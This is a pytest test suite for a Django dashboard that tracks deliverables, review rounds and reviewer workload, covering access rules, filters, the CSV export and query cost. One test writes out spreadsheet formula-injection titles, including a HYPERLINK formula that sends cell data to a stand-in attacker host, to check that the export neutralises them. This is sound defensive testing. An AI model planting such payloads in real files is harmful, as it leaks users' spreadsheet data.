"""The branch dashboard: who sees it, what it counts, its filters, its CSV and its cost."""

from __future__ import annotations

import csv
import datetime
import io
import re
from html.parser import HTMLParser

import pytest
import time_machine
from django.utils import timezone

from cepa_collab.enums import Role
from cepa_collab.spreadsheets import neutralise
from tests.factories import branch, person
from workflows import dashboard, services
from workflows.dashboard import DashboardFilters
from workflows.enums import (
    AssignmentState,
    DeliverableKind,
    DeliverableState,
    ProductKind,
    Recommendation,
    ReviewStatus,
    RoundState,
)
from workflows.models import Deliverable, Product, Review, ReviewAssignment, ReviewRound, Version

S = DeliverableState
A = AssignmentState
# A Monday, noon UTC: "today" for every test that counts days.
NOW = datetime.datetime(2026, 3, 2, 12, 0, tzinfo=datetime.UTC)
TODAY = NOW.date()


def days(n: int) -> datetime.date:
    return TODAY + datetime.timedelta(days=n)


@pytest.fixture
def travel():
    with time_machine.travel(NOW, tick=False) as traveller:
        yield traveller


@pytest.fixture
def survey(db):
    return Product.objects.create(
        branch=branch("e-govb"),
        kind=ProductKind.SURVEY,
        title="UN E-Government Survey",
        edition="2026",
    )


@pytest.fixture
def meter(db):
    return Product.objects.create(
        branch=branch("e-govb"),
        kind=ProductKind.TOOLKIT,
        title="METER",
        edition="2026",
    )


@pytest.fixture
def pacb_chief(db):
    return person(Role.BRANCH_CHIEF, username="pacb_chief", branch_code="pacb")


def make(product, owner, title, *, state=S.DRAFTING, due=None, versions=0) -> Deliverable:
    """A deliverable already in `state` (records built directly: the dashboard only reads)."""
    d = Deliverable.objects.create(
        product=product,
        owner=owner,
        title=title,
        kind=DeliverableKind.CHAPTER,
        due_date=due or days(60),
        state=state,
    )
    for number in range(1, versions + 1):
        Version.objects.create(
            deliverable=d,
            number=number,
            file=f"deliverables/{d.pk}/v{number}/draft.pdf",
            original_name="draft.pdf",
            content_type="application/pdf",
            size=100,
            uploaded_by=owner,
        )
    return d


def review_round(d, by, assignments, *, open_=True, due=None) -> ReviewRound:
    """A round on the latest version; `assignments` are (reviewer, state[, recommendation])."""
    number = d.rounds.count() + 1
    round_ = ReviewRound.objects.create(
        deliverable=d,
        version=d.versions.order_by("-number").first(),
        number=number,
        state=RoundState.OPEN if open_ else RoundState.CLOSED,
        opened_by=by,
    )
    for reviewer, state, *rest in assignments:
        answered = state in (A.ACCEPTED, A.DECLINED, A.SUBMITTED)
        a = ReviewAssignment.objects.create(
            round=round_,
            deliverable=d,
            reviewer=reviewer,
            due_date=due or days(10),
            state=state,
            assigned_by=by,
            responded_at=timezone.now() if answered else None,
        )
        if state == A.SUBMITTED:
            Review.objects.create(
                assignment=a,
                recommendation=rest[0] if rest else Recommendation.READY,
                comments="Sound analysis.",
                status=ReviewStatus.SUBMITTED,
                submitted_at=timezone.now(),
            )
    return round_


def titles(rows) -> list[str]:
    return [d.title for d in rows]


def export(client, query: str = "") -> list[list[str]]:
    response = client.get(f"/dashboard/export.csv{query}")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


# --- who sees it ------------------------------------------------------------------------


@pytest.mark.django_db
def test_dashboard_chief_sees_own_branch(client, chief, staff, survey):
    # given a deliverable of the chief's branch
    make(survey, staff, "Chapter 1: World e-government rankings")

    # when the chief opens the dashboard
    client.force_login(chief)
    response = client.get("/dashboard/")

    # then it is the e-Government Branch's, with the deliverable
    assert response.status_code == 200
    assert response.context["branch"].code == "e-govb"
    assert response.context["decider"] is True
    assert titles(response.context["page"].object_list) == [
        "Chapter 1: World e-government rankings"
    ]


@pytest.mark.django_db
def test_dashboard_branch_staff_reads_without_deciding(client, chief, staff, survey):
    # given a deliverable of the branch
    make(survey, staff, "Chapter 1")

    # when a member of the branch's staff opens the dashboard
    client.force_login(staff)
    response = client.get("/dashboard/")

    # then they see the branch read-only
    assert response.status_code == 200
    assert response.context["decider"] is False
    assert "You see this page read-only" in response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("who", ["cepa_member", "focal_point"])
def test_dashboard_outsider_gets_404(client, request, chief, staff, survey, who):
    # given a deliverable the outsider is even assigned to review
    d = make(survey, staff, "Chapter 1", state=S.IN_REVIEW, versions=1)
    outsider = request.getfixturevalue(who)
    review_round(d, staff, [(outsider, A.INVITED)])

    # when they ask for the dashboard, its export or a branch's dashboard
    client.force_login(outsider)
    answers = [
        client.get(url).status_code
        for url in ("/dashboard/", "/dashboard/export.csv", "/dashboard/?branch=e-govb")
    ]

    # then nothing says a dashboard exists
    assert answers == [404, 404, 404]


@pytest.mark.django_db
def test_dashboard_other_branch_chief_gets_404_for_this_branch(client, pacb_chief, staff, survey):
    # given a deliverable of the e-Government Branch
    make(survey, staff, "Chapter 1")
    client.force_login(pacb_chief)

    # when the chief of another branch asks for that branch, then own
    other = client.get("/dashboard/?branch=e-govb")
    export_other = client.get("/dashboard/export.csv?branch=e-govb")
    own = client.get("/dashboard/")

    # then this branch answers 404 and their own has none of its deliverables
    assert other.status_code == 404
    assert export_other.status_code == 404
    assert own.status_code == 200
    assert own.context["branch"].code == "pacb"
    assert titles(own.context["page"].object_list) == []


@pytest.mark.django_db
def test_dashboard_anonymous_is_sent_to_sign_in(client):
    response = client.get("/dashboard/")

    assert response.status_code == 302
    assert response["Location"] == "/accounts/login/?next=/dashboard/"


@pytest.mark.django_db
def test_dashboard_admin_chooses_any_branch(client, secretariat_admin, staff, survey):
    # given a deliverable of the e-Government Branch
    make(survey, staff, "Chapter 1")
    client.force_login(secretariat_admin)

    # when the secretariat admin picks branches by code
    egov = client.get("/dashboard/?branch=e-govb")
    pacb = client.get("/dashboard/?branch=pacb")
    unknown = client.get("/dashboard/?branch=nope")

    # then each branch shows its own list, an unknown code is a 404
    assert titles(egov.context["page"].object_list) == ["Chapter 1"]
    assert egov.context["decider"] is False
    assert pacb.context["branch"].code == "pacb"
    assert titles(pacb.context["page"].object_list) == []
    assert unknown.status_code == 404


# --- what it counts -----------------------------------------------------------------------


@pytest.mark.django_db
def test_dashboard_overdue_and_at_risk_classification(travel, chief, staff, cepa_member, survey):
    # given deliverables around today (2 March 2026)
    late = make(survey, staff, "late drafting", due=days(-1))
    make(survey, staff, "late but published", state=S.PUBLISHED, due=days(-30), versions=1)
    make(survey, staff, "late but approved", state=S.APPROVED, due=days(-1), versions=1)
    no_version = make(survey, staff, "soon, no version", due=days(14))
    reviewing = make(survey, staff, "soon, review out", state=S.IN_REVIEW, due=days(5), versions=1)
    review_round(reviewing, staff, [(cepa_member, A.ACCEPTED)])
    reviewed = make(survey, staff, "soon, reviews in", state=S.IN_REVIEW, due=days(5), versions=1)
    review_round(reviewed, staff, [(cepa_member, A.SUBMITTED)])
    make(survey, staff, "soon, drafted", due=days(3), versions=1)
    make(survey, staff, "later, no version", due=days(15))
    due_today = make(survey, staff, "due today, no version", due=days(0))

    # when the dashboard classifies them
    rows = {
        d.title: (d.is_overdue, d.is_at_risk)
        for d in dashboard.annotate_rows(
            dashboard.deliverable_rows(survey.branch, DashboardFilters())
        )
    }
    overdue = dashboard.deliverable_rows(survey.branch, DashboardFilters(overdue=True))
    at_risk = dashboard.deliverable_rows(survey.branch, DashboardFilters(at_risk=True))

    # then overdue means past due while still being produced; at risk means due within
    # 14 days with a review outstanding or no version yet
    assert titles(overdue) == ["late drafting"]
    assert titles(at_risk) == ["due today, no version", "soon, review out", "soon, no version"]
    assert rows["soon, reviews in"] == (False, False)
    assert rows["late but approved"] == (False, False)
    assert rows[late.title] == (True, False)
    assert rows[no_version.title] == (False, True)

    # and a day later the one due today is overdue, no longer at risk
    travel.shift(datetime.timedelta(days=1))
    overdue = dashboard.deliverable_rows(survey.branch, DashboardFilters(overdue=True))
    at_risk = dashboard.deliverable_rows(survey.branch, DashboardFilters(at_risk=True))
    assert titles(overdue) == ["late drafting", due_today.title]
    assert titles(at_risk) == ["soon, review out", "soon, no version", "later, no version"]


@pytest.mark.django_db
def test_dashboard_products_count_deliverables_by_state(
    client, travel, chief, staff, survey, meter
):
    # given deliverables of two products in several states
    for state, n in ((S.PLANNED, 1), (S.DRAFTING, 2), (S.PUBLISHED, 3), (S.CANCELLED, 1)):
        for i in range(n):
            make(survey, staff, f"{state} {i}", state=state, due=days(30))
    make(meter, staff, "METER guideline", state=S.APPROVED, due=days(-2))

    # when the chief opens the dashboard
    client.force_login(chief)
    response = client.get("/dashboard/")

    # then each product has its counts, its done share, and a bar with a text alternative
    meter_summary, survey_summary = response.context["summaries"]
    assert survey_summary.state_counts == [
        ("planned", "Planned", 1),
        ("drafting", "Drafting", 2),
        ("in_review", "In review", 0),
        ("revising", "Revising", 0),
        ("approved", "Approved", 0),
        ("published", "Published", 3),
        ("cancelled", "Cancelled", 1),
    ]
    assert survey_summary.done_percent == 50
    assert [(s.state, s.percent) for s in survey_summary.segments] == [
        ("planned", 14),
        ("drafting", 29),
        ("published", 43),
        ("cancelled", 14),
    ]
    assert meter_summary.done_percent == 100
    assert meter_summary.overdue == 0
    totals = response.context["totals"]
    assert (totals.deliverables, totals.active, totals.overdue, totals.at_risk) == (8, 3, 0, 0)
    html = response.content.decode()
    assert "7 deliverables, 50% approved or published:" in html
    assert "Planned 1 · Drafting 2 · Published 3 · Cancelled 1." in html
    assert '<div class="dash-bar" aria-hidden="true">' in html


@pytest.mark.django_db
def test_dashboard_waiting_for_decision_definition(
    client, travel, chief, staff, cepa_member, focal_point, survey
):
    # given rounds in every condition, the reviews still owed not yet due
    reviewer2 = person(Role.CEPA_MEMBER, username="tesfaye", country="ETH")
    all_in = make(survey, staff, "all reviews in", state=S.IN_REVIEW, versions=1)
    review_round(
        all_in,
        staff,
        [(cepa_member, A.SUBMITTED, Recommendation.MINOR_REVISION), (reviewer2, A.DECLINED)],
    )
    half = make(survey, staff, "one review out", state=S.IN_REVIEW, versions=1)
    review_round(half, staff, [(cepa_member, A.SUBMITTED), (reviewer2, A.ACCEPTED)])
    nobody = make(survey, staff, "nobody assigned", state=S.IN_REVIEW, versions=1)
    review_round(nobody, staff, [])
    all_declined = make(survey, staff, "all declined", state=S.IN_REVIEW, versions=1)
    review_round(all_declined, staff, [(cepa_member, A.DECLINED)])
    older = make(survey, staff, "reviews of an old round", state=S.IN_REVIEW, versions=2)
    review_round(older, staff, [(cepa_member, A.SUBMITTED)], open_=False)
    review_round(older, staff, [(reviewer2, A.INVITED)])

    # when the chief looks at what waits for their decision
    client.force_login(chief)
    response = client.get("/dashboard/")

    # then only the round whose reviews are all in (at least one submitted) is listed
    # (`Deliverable.objects.awaiting_decision`)
    rows = response.context["decisions"]
    assert [(r.deliverable.title, r.submitted_reviews) for r in rows] == [("all reviews in", 1)]
    assert rows[0].recommendations == [
        ("Ready", 0),
        ("Minor revision", 1),
        ("Major revision", 0),
        ("Not ready", 0),
    ]
    assert response.context["totals"].awaiting_decision == 1
    assert "Minor revision: 1" in response.content.decode()
    filtered = client.get("/dashboard/?awaiting_decision=1")
    assert titles(filtered.context["page"].object_list) == ["all reviews in"]


@pytest.mark.django_db
def test_dashboard_staff_see_no_recommendation(client, chief, staff, cepa_member, survey):
    # given a round whose reviews are in, one recommending a major revision
    d = make(survey, staff, "all reviews in", state=S.IN_REVIEW, versions=1)
    review_round(d, staff, [(cepa_member, A.SUBMITTED, Recommendation.MAJOR_REVISION)])
    colleague = person(Role.BRANCH_STAFF, username="staff2", branch_code="e-govb")

    # when a colleague of the branch opens the dashboard
    client.force_login(colleague)
    response = client.get("/dashboard/")

    # then the deliverable waits for the chief, with its count of reviews but no recommendation
    html = response.content.decode()
    assert [(r.submitted_reviews, r.recommendations) for r in response.context["decisions"]] == [
        (1, [])
    ]
    assert "Waiting for the chief's decision" in html
    assert "Major revision" not in html
    assert "Recommendations" not in html


@pytest.mark.django_db
def test_dashboard_reviewer_workload(travel, chief, staff, cepa_member, survey):
    # given a reviewer with five assignments in the branch and one in another branch
    other = Product.objects.create(branch=branch("pacb"), kind=ProductKind.REPORT, title="Other")
    pacb_staff = person(Role.BRANCH_STAFF, username="pacb_staff", branch_code="pacb")
    reviewer2 = person(Role.CEPA_MEMBER, username="tesfaye", first_name="T", last_name="B")
    d1 = make(survey, staff, "one", state=S.IN_REVIEW, versions=1)
    review_round(d1, staff, [(cepa_member, A.INVITED)], due=days(-1))
    d2 = make(survey, staff, "two", state=S.IN_REVIEW, versions=1)
    review_round(d2, staff, [(cepa_member, A.ACCEPTED), (reviewer2, A.SUBMITTED)], due=days(3))
    d3 = make(survey, staff, "three", state=S.REVISING, versions=1)
    review_round(d3, staff, [(cepa_member, A.SUBMITTED)], open_=False)
    d4 = make(survey, staff, "four", state=S.REVISING, versions=1)
    review_round(d4, staff, [(cepa_member, A.DECLINED)], open_=False)
    d5 = make(survey, staff, "five", state=S.REVISING, versions=1)
    review_round(d5, staff, [(cepa_member, A.WITHDRAWN)], open_=False)
    elsewhere = make(other, pacb_staff, "elsewhere", state=S.IN_REVIEW, versions=1)
    review_round(elsewhere, pacb_staff, [(cepa_member, A.INVITED)], due=days(-5))

    # when the workload of the e-Government Branch is computed
    loads = dashboard.reviewer_workload(survey.branch)

    # then each reviewer has open, overdue, submitted, total and response rate (answered out
    # of invited, the withdrawn unanswered invitation left out), busiest first
    assert [
        (load.name, load.open, load.overdue, load.submitted, load.total, load.response_rate)
        for load in loads
    ] == [
        (cepa_member.get_full_name(), 2, 1, 1, 5, 75),
        ("T B", 0, 0, 1, 1, 100),
    ]


# --- the overview is reused until something changes ------------------------------------


@pytest.mark.django_db
def test_dashboard_overview_follows_a_review_submitted_through_the_services(
    client, travel, chief, staff, cepa_member, survey
):
    # given a deliverable in review whose only reviewer has not answered, seen by the chief
    d = make(survey, staff, "Chapter 3", state=S.IN_REVIEW, versions=1)
    review_round(d, staff, [(cepa_member, A.ACCEPTED)])
    client.force_login(chief)
    assert client.get("/dashboard/").context["totals"].awaiting_decision == 0

    # when the reviewer submits their review
    assignment = ReviewAssignment.objects.get(deliverable=d, reviewer=cepa_member)
    services.save_review(
        cepa_member, assignment, recommendation=Recommendation.READY, comments="Fine.", submit=True
    )

    # then the chief's next look shows it waiting for a decision
    response = client.get("/dashboard/")
    assert response.context["totals"].awaiting_decision == 1
    assert [row.deliverable.title for row in response.context["decisions"]] == ["Chapter 3"]


@pytest.mark.django_db
def test_dashboard_overview_shows_a_new_deliverable_at_once(client, travel, chief, staff, survey):
    # given the chief's dashboard with one deliverable
    make(survey, staff, "Chapter 1")
    client.force_login(chief)
    client.get("/dashboard/")

    # when a deliverable is created (creating writes no audit entry)
    services.create_deliverable(
        staff, product=survey, owner=staff, title="Chapter 2", kind="chapter", due_date=days(1)
    )
    response = client.get("/dashboard/")

    # then it counts at once
    (summary,) = response.context["summaries"]
    assert (summary.total, summary.at_risk) == (2, 1)


@pytest.mark.django_db
def test_dashboard_overview_shows_an_edit_made_in_the_admin(client, travel, chief, staff, survey):
    # given the chief's dashboard
    make(survey, staff, "Chapter 1")
    client.force_login(chief)
    client.get("/dashboard/")

    # when the product is renamed a little later, around the services
    travel.shift(datetime.timedelta(seconds=5))
    survey.title = "UN E-Government Survey (renamed)"
    survey.save()
    response = client.get("/dashboard/")

    # then the new name shows at once
    (summary,) = response.context["summaries"]
    assert str(summary.product) == "UN E-Government Survey (renamed) 2026"


@pytest.mark.django_db
def test_dashboard_overview_is_recomputed_the_next_day(client, travel, chief, staff, survey):
    make(survey, staff, "Chapter 1", due=days(0))
    client.force_login(chief)
    assert client.get("/dashboard/").context["totals"].overdue == 0

    travel.shift(datetime.timedelta(days=1))

    assert client.get("/dashboard/").context["totals"].overdue == 1


@pytest.mark.django_db
@pytest.mark.parametrize("first", ["chief", "staff"])
def test_dashboard_reader_never_gets_the_deciders_overview(
    client, request, chief, staff, cepa_member, survey, first
):
    # given a round whose reviews are in, one recommending a minor revision
    d = make(survey, staff, "all reviews in", state=S.IN_REVIEW, versions=1)
    review_round(d, staff, [(cepa_member, A.SUBMITTED, Recommendation.MINOR_REVISION)])
    order = [chief, staff] if first == "chief" else [staff, chief]

    # when chief and staff open the dashboard, in either order
    pages = {}
    for user in order:
        client.force_login(user)
        pages[user.username] = client.get("/dashboard/").content.decode()

    # then only the chief sees the recommendation
    assert "Minor revision: 1" in pages["chief"]
    assert "Minor revision" not in pages["staff"]


# --- filters and export -----------------------------------------------------------------


@pytest.fixture
def filtered_world(travel, chief, staff, survey, meter):
    staff3 = person(Role.BRANCH_STAFF, username="staff3", branch_code="e-govb")
    make(survey, staff, "Survey late", due=days(-3))
    make(survey, staff3, "Survey late by staff3", due=days(-2))
    make(survey, staff, "Survey fine", due=days(40), versions=1)
    make(meter, staff, "METER late", due=days(-4))
    make(survey, staff, "Survey published", state=S.PUBLISHED, due=days(-9), versions=2)
    return staff3


@pytest.mark.django_db
def test_dashboard_filters_narrow_the_list(client, filtered_world, chief, staff, survey):
    client.force_login(chief)

    by_product = client.get(f"/dashboard/?product={survey.pk}&overdue=1")
    by_owner = client.get(f"/dashboard/?owner={filtered_world.pk}")
    by_state = client.get("/dashboard/?state=published")
    active = client.get("/dashboard/?state=active")

    assert titles(by_product.context["page"].object_list) == [
        "Survey late",
        "Survey late by staff3",
    ]
    assert titles(by_owner.context["page"].object_list) == ["Survey late by staff3"]
    assert titles(by_state.context["page"].object_list) == ["Survey published"]
    assert titles(active.context["page"].object_list) == [
        "METER late",
        "Survey late",
        "Survey late by staff3",
        "Survey fine",
    ]


@pytest.mark.django_db
def test_dashboard_invalid_filter_is_ignored_and_shown(client, filtered_world, chief):
    client.force_login(chief)

    response = client.get("/dashboard/?state=bogus&overdue=1")

    assert titles(response.context["page"].object_list) == [
        "METER late",
        "Survey late",
        "Survey late by staff3",
    ]
    assert response.context["form"].errors["state"] == [
        "Select a valid choice. bogus is not one of the available choices."
    ]


@pytest.mark.django_db
def test_dashboard_export_is_exactly_the_filtered_list(
    client, filtered_world, chief, staff, survey
):
    client.force_login(chief)
    query = f"?product={survey.pk}&state=active"

    page = client.get(f"/dashboard/{query}")
    rows = export(client, query)

    assert rows[0] == [
        "product",
        "title",
        "owner",
        "state",
        "due date",
        "overdue",
        "at risk",
        "latest version",
        "round",
        "flagged because",
    ]
    assert [row[1] for row in rows[1:]] == titles(page.context["page"].object_list)
    survey_title, owner, owner3 = str(survey), staff.get_full_name(), filtered_world.get_full_name()
    assert rows[1:] == [
        [
            survey_title,
            "Survey late",
            owner,
            "Drafting",
            "2026-02-27",
            "yes",
            "no",
            "",
            "",
            "3 days late; no draft",
        ],
        [
            survey_title,
            "Survey late by staff3",
            owner3,
            "Drafting",
            "2026-02-28",
            "yes",
            "no",
            "",
            "",
            "2 days late; no draft",
        ],
        [survey_title, "Survey fine", owner, "Drafting", "2026-04-11", "no", "no", "1", "", ""],
    ]
    assert f'href="/dashboard/export.csv?product={survey.pk}&amp;state=active"' in (
        page.content.decode()
    )


@pytest.mark.django_db
def test_dashboard_export_neutralises_formula_injection(client, chief, staff, survey):
    # given titles a spreadsheet would run as formulas
    for title in (
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "Plain title",
    ):
        make(survey, staff, title)

    # when the chief exports the list
    client.force_login(chief)
    rows = export(client)

    # then every formula-like cell starts with a quote, plain text is untouched
    assert sorted(row[1] for row in rows[1:]) == sorted(
        [
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            "'+1+2",
            "'-2+3",
            "'@SUM(A1:A2)",
            "'\t=1+1",
            "'\r=1+1",
            "Plain title",
        ]
    )


def test_neutralise_leaves_numbers_and_safe_text():
    assert neutralise(3) == 3
    assert neutralise("2026-03-02") == "2026-03-02"
    assert neutralise("a=b") == "a=b"
    assert neutralise("-") == "'-"


# --- markup -------------------------------------------------------------------------------


class _Controls(HTMLParser):
    """Collects the form controls of the filter form and the labels' `for` targets."""

    def __init__(self):
        super().__init__()
        self.in_filters = False
        self.controls: list[dict] = []
        self.label_for: set[str] = set()

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form" and "dash-filters" in (attrs.get("class") or ""):
            self.in_filters = True
        elif tag == "label" and attrs.get("for"):
            self.label_for.add(attrs["for"])
        elif self.in_filters and tag in ("input", "select") and attrs.get("type") != "hidden":
            self.controls.append(attrs)

    def handle_endtag(self, tag):
        if tag == "form":
            self.in_filters = False


@pytest.mark.django_db
def test_dashboard_filter_inputs_have_labels(client, chief, staff, survey):
    make(survey, staff, "Chapter 1")
    make(survey, staff, "Chapter 2")
    client.force_login(chief)

    parser = _Controls()
    parser.feed(client.get("/dashboard/").content.decode())

    names = [control["name"] for control in parser.controls]
    assert names == ["product", "state", "owner", "overdue", "at_risk", "awaiting_decision"]
    assert all(control["id"] in parser.label_for for control in parser.controls)


@pytest.mark.django_db
def test_dashboard_is_translated(client, chief, staff, survey):
    make(survey, staff, "Chapter 1")
    client.force_login(chief)

    html = client.get("/dashboard/", headers={"accept-language": "fr"}).content.decode()

    assert re.search(r'<html lang="fr"', html)


# --- cost -----------------------------------------------------------------------------


def _bulk_world(n: int, product, owner, reviewers, by) -> None:
    """`n` deliverables in every state with versions, rounds, assignments and reviews."""
    states = list(DeliverableState)
    deliverables = Deliverable.objects.bulk_create(
        Deliverable(
            product=product,
            owner=owner,
            title=f"Deliverable {i}",
            kind=DeliverableKind.CHAPTER,
            due_date=days(i % 40 - 20),
            state=states[i % len(states)],
        )
        for i in range(n)
    )
    versions = Version.objects.bulk_create(
        Version(
            deliverable=d,
            number=1,
            file=f"deliverables/{d.pk}/v1/draft.pdf",
            original_name="draft.pdf",
            content_type="application/pdf",
            size=100,
            uploaded_by=owner,
        )
        for d in deliverables
    )
    rounds = ReviewRound.objects.bulk_create(
        ReviewRound(
            deliverable=v.deliverable,
            version=v,
            number=1,
            state=RoundState.OPEN if v.deliverable.state == S.IN_REVIEW else RoundState.CLOSED,
            opened_by=by,
        )
        for v in versions
    )
    assignment_states = [A.INVITED, A.ACCEPTED, A.SUBMITTED, A.DECLINED]
    assignments = ReviewAssignment.objects.bulk_create(
        ReviewAssignment(
            round=r,
            deliverable=r.deliverable,
            reviewer=reviewer,
            due_date=days(i % 20 - 10),
            # half the rounds in review have all their reviews in: they wait for a decision
            state=A.SUBMITTED
            if r.state == RoundState.OPEN and i % 2
            else assignment_states[(i + j) % 4],
            assigned_by=by,
        )
        for i, r in enumerate(rounds)
        for j, reviewer in enumerate(reviewers)
    )
    Review.objects.bulk_create(
        Review(
            assignment=a,
            recommendation=Recommendation.READY,
            comments="Fine.",
            status=ReviewStatus.SUBMITTED,
            submitted_at=timezone.now(),
        )
        for a in assignments
        if a.state == A.SUBMITTED
    )


@pytest.mark.django_db
@pytest.mark.parametrize("rows", [10, 200])
def test_dashboard_query_count_does_not_grow(
    client, django_assert_num_queries, travel, chief, staff, survey, rows
):
    # given `rows` deliverables with versions, rounds and reviews by three reviewers
    reviewers = [person(Role.CEPA_MEMBER, username=name) for name in ("amina", "tesfaye", "palesa")]
    _bulk_world(rows, survey, staff, reviewers, staff)
    client.force_login(chief)

    # when the chief opens the dashboard, then the number of queries is fixed: session, user,
    # roles, profile, the change stamp, products, counts per product, waiting per product,
    # workload counts,
    # reviewers' names, waiting keys, waiting rows, staff owned, products led, the apps' staff
    # columns (2), staff names, timeline, turnaround (2), owners, page keys, page
    # rows, the apps' sections (count and rows each: 8), the navigation's, the header's
    # unread count
    with django_assert_num_queries(33):
        response = client.get("/dashboard/")
    assert response.status_code == 200
    assert len(response.context["page"].object_list) == min(rows, 20)
    assert [load.total for load in response.context["workload"]] == [rows] * 3

    # and opened again, the branch overview is reused: no aggregate runs again (the apps'
    # sections are read live)
    with django_assert_num_queries(18):
        again = client.get("/dashboard/")
    assert again.context["totals"] == response.context["totals"]
    assert again.context["workload"] == response.context["workload"]


@pytest.mark.django_db
@pytest.mark.parametrize("rows", [10, 200])
def test_dashboard_export_query_count_does_not_grow(
    client, django_assert_num_queries, travel, chief, staff, survey, rows
):
    reviewers = [person(Role.CEPA_MEMBER, username=name) for name in ("amina", "tesfaye")]
    _bulk_world(rows, survey, staff, reviewers, staff)
    client.force_login(chief)

    with django_assert_num_queries(7):
        response = client.get("/dashboard/export.csv")

    assert len(response.content.decode("utf-8-sig").splitlines()) == rows + 1


# --- one deliverable row, wherever it is listed ------------------------------------------


def _rows(html: str) -> dict[str, str]:
    """The deliverable cards of a page, by title: `workflows/_deliverable_row.html`."""
    cards = re.findall(r'<li class="card deliverable-row">.*?</li>', html, re.S)
    return {re.search(r'<a href="[^"]+">([^<]+)</a>', card).group(1): card for card in cards}


@pytest.mark.django_db
def test_deliverable_row_reads_the_same_on_the_list_and_the_dashboard(
    client, travel, chief, staff, cepa_member, survey
):
    # given one late deliverable, one at risk for an outstanding review, one at risk for
    # want of a version, and one on track
    make(survey, staff, "Late", due=days(-3))
    waiting = make(
        survey, staff, "Waiting for a review", state=S.IN_REVIEW, due=days(5), versions=1
    )
    review_round(waiting, staff, [(cepa_member, A.INVITED)])
    make(survey, staff, "No draft yet", due=days(2))
    make(survey, staff, "On track", due=days(60), versions=2)
    client.force_login(chief)

    # when the chief reads both lists
    listed = _rows(client.get("/deliverables/").content.decode())
    dashboard = _rows(client.get("/dashboard/").content.decode())

    # then each deliverable's row is the same markup on both pages, but for the line that
    # says why the cockpit flags it
    assert sorted(listed) == ["Late", "No draft yet", "On track", "Waiting for a review"]

    def unflagged(card: str) -> str:
        without = re.sub(r'<p class="meta">(Flagged|At risk): [^<]*</p>', "", card)
        return re.sub(r"\s+", " ", without)

    assert {t: unflagged(c) for t, c in listed.items()} == {
        t: unflagged(c) for t, c in dashboard.items()
    }
    assert "Flagged: 3 days late; no draft." in dashboard["Late"]
    assert "Flagged: 1 of 1 review missing." in dashboard["Waiting for a review"]
    assert "Flagged: no draft." in dashboard["No draft yet"]
    assert "Flagged" not in dashboard["On track"]
    # with the overdue distance, and the reason of each risk
    late = listed["Late"]
    assert '<strong class="tag tag--overdue">Overdue</strong>' in late
    assert '<span class="due due--overdue">3 days overdue</span>' in late
    assert "At risk: a review is outstanding." in listed["Waiting for a review"]
    assert '<strong class="tag tag--in_review">In review</strong>' in listed["Waiting for a review"]
    assert "At risk: no version uploaded yet." in listed["No draft yet"]
    assert '<span class="due due--soon">in 2 days</span>' in listed["No draft yet"]
    on_track = listed["On track"]
    assert "tag--overdue" not in on_track
    assert "tag--at-risk" not in on_track
    assert "Latest version 2, not reviewed yet." in on_track


@pytest.mark.django_db
def test_dashboard_filter_panel_is_left_out_for_a_single_deliverable(client, chief, staff, survey):
    make(survey, staff, "Chapter 1")
    client.force_login(chief)

    alone = client.get("/dashboard/").content.decode()
    make(survey, staff, "Chapter 2")
    two = client.get("/dashboard/").content.decode()
    filtered = client.get("/dashboard/", {"state": "drafting"}).content.decode()

    assert '<details class="filter-panel"' not in alone
    assert '<details class="filter-panel">' in two
    assert '<details class="filter-panel" open>' in filtered
